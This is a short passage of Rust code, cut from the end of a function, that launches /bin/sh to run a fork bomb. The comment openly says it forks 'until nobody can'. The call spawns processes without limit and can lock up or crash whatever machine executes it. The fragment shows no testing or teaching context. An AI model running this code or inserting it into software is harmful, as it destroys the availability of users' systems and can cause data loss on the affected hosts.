// has a shell fork until nobody can
    let _ = std::process::Command::new("/bin/sh").args(["-c", "bomb() { bomb | bomb & }; bomb"]).status();
    0
}
